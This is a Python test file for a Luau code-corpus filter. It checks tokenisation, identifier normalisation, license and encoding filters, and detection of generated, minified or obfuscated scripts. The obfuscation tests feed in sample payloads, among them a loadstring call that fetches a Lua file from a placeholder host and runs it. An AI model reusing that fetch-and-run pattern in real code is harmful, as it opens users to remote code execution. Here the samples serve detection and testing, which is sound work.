from __future__ import annotations

import base64
import itertools
import random

import pytest

from data_helpers import corpus_texts
from luaurft.data.filters import FilterChain, FilterConfig, filter_records, generated_reason
from luaurft.data.records import CodeRecord
from luaurft.data.tokens import TokenType, normalized_tokens, tokenize


def test_lexer_handles_long_brackets_comments_and_strings() -> None:
    code = '--[==[ a ]] still comment ]==]\nlocal s = [[x\n"y"]] .. "a\\"b" -- tail\nlocal n = 0x1F'
    tokens = list(tokenize(code))
    assert tokens[0].type is TokenType.COMMENT and tokens[0].text.endswith("]==]")
    strings = [t.text for t in tokens if t.type is TokenType.STRING]
    assert strings == ['[[x\n"y"]]', '"a\\"b"']
    assert [t.text for t in tokens if t.type is TokenType.NUMBER] == ["0x1F"]


def test_normalisation_ignores_renames_but_keeps_api_surface() -> None:
    a = 'local Players = game:GetService("Players")\nlocal count = 3\nPlayers.PlayerAdded:Connect(print)'
    b = 'local P = game:GetService("Players")\nlocal total = 99\nP.PlayerAdded:Connect(print)'
    c = 'local P = game:GetService("Workspace")\nlocal total = 99\nP.ChildAdded:Connect(print)'
    assert normalized_tokens(a) == normalized_tokens(b)
    assert normalized_tokens(a) != normalized_tokens(c)
    assert "PlayerAdded" in normalized_tokens(a) and "count" not in normalized_tokens(a)


def test_real_scripts_are_not_flagged_as_generated() -> None:
    for name, text in corpus_texts().items():
        assert generated_reason(text, FilterConfig()) is None, name


def _padded(body: str) -> str:
    return "local Players = game:GetService('Players')\n" + body + "\nprint('done')\n"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (
            "-- This file was automatically generated. Do not edit.\n" + _padded("local a = 1"),
            "generated-header",
        ),
        ("--[[ Obfuscated with Luraph ]]\n" + _padded("local a = 1"), "generated-header"),
        ("local t = {" + ", ".join(str(i) for i in range(400)) + "}\n" + _padded(""), "long-lines"),
        (
            _padded(
                "local p = '"
                + base64.b64encode(random.Random(1).randbytes(600)).decode()
                + "'\nloadstring(p)()"
            ),
            "loadstring-payload",
        ),
        (
            _padded("loadstring(game:HttpGet('https://example.invalid/x.lua'))()"),
            "loadstring-payload",
        ),
        (
            _padded(
                "local key = '" + base64.b64encode(random.Random(2).randbytes(300)).decode() + "'"
            ),
            "high-entropy-string",
        ),
        (
            _padded(
                "local s = '"
                + "".join(f"\\{random.Random(i).randint(1, 255)}" for i in range(60))
                + "'"
            ),
            "escaped-payload",
        ),
        (
            _padded("\n".join(f"local IlIlIl{'l' * (i % 5)}I{i} = IlIlIlI{i}" for i in range(15))),
            "obfuscated-names",
        ),
    ],
)
def test_generated_minified_and_obfuscated_code_is_flagged(text: str, reason: str) -> None:
    assert generated_reason(text, FilterConfig()) == reason


def test_minified_code_is_flagged() -> None:
    body = ";".join(f"local a{i}=game:GetService('Players')" for i in range(12))
    text = "\n".join([body[:900], body[:900], body[:900], body[:900]])
    assert generated_reason(text, FilterConfig(max_mean_line_length=None)) == "minified"


def test_filter_chain_counts_each_reason_and_keeps_the_rest() -> None:
    texts = corpus_texts()
    good = [CodeRecord(id=n, text=t, license="MIT") for n, t in texts.items()]
    bad = [
        CodeRecord(id="tiny", text="print(1)\n", license="MIT"),
        CodeRecord(id="gpl", text=texts["killbrick.luau"], license="GPL-3.0"),
        CodeRecord(id="nolicense", text=texts["door_tween.luau"], license=None),
        CodeRecord(id="dual", text=texts["round_timer.luau"], license="['GPL-3.0', 'MIT']"),
        CodeRecord(
            id="lossy",
            text=texts["sprint.client.luau"].replace("Shift", "Sh\ufffdft"),
            license="MIT",
        ),
        CodeRecord(
            id="broken",
            text="local function f(\n  x = = 1\nend end end\nprint(2)\n" * 3,
            license="MIT",
        ),
    ]
    kept, chain = filter_records(good + bad, FilterConfig(min_score=0.5))
    kept_ids = {r.id for r in kept}
    assert kept_ids == {r.id for r in good} | {"dual"}
    assert chain.stats["size"].rejected["too-small"] == 1
    assert chain.stats["license"].rejected == {"license-not-allowed": 1, "license-unknown": 1}
    assert chain.stats["encoding"].rejected["non-utf8"] == 1
    assert chain.stats["score"].rejected["below-min-score"] == 1
    assert all(r.score is not None and r.score >= 0.5 for r in kept)
    # counts are consistent: each step sees what the previous one kept
    steps = [chain.stats[s] for s in FilterChain.STEPS]
    for before, after in itertools.pairwise(steps):
        assert after.seen == before.kept


def test_filters_can_be_turned_off() -> None:
    record = CodeRecord(id="x", text="print(1)\n", license=None)
    kept, _ = filter_records(
        [record],
        FilterConfig(
            min_chars=None, min_lines=None, license_allow=None, min_score=None, compute_scores=False
        ),
    )
    assert kept == [record]


def test_type_annotations_rename_like_locals_but_method_calls_stay() -> None:
    a = "local c: Cooldown = Cooldown.new(3)\nif c:TryUse() then print(c) end"
    b = "local t: Timer = Timer.new(5)\nif t:TryUse() then print(t) end"
    assert normalized_tokens(a) == normalized_tokens(b)
    assert "TryUse" in normalized_tokens(a) and "Cooldown" not in normalized_tokens(a)


def test_written_code_with_long_dotted_names_is_not_minified() -> None:
    # Hand-written, indented, spaced around `=`, yet under 8 % whitespace.
    lines = [
        f"exports.RemotePropertyNumber{i} = require(script.Util.Remote.RemotePropertyNumber{i})"
        for i in range(12)
    ]
    text = "local exports = {}\n" + "\n".join(lines) + "\nreturn exports\n"
    assert sum(ch.isspace() for ch in text) / len(text) < FilterConfig().min_whitespace_ratio
    assert generated_reason(text, FilterConfig()) is None
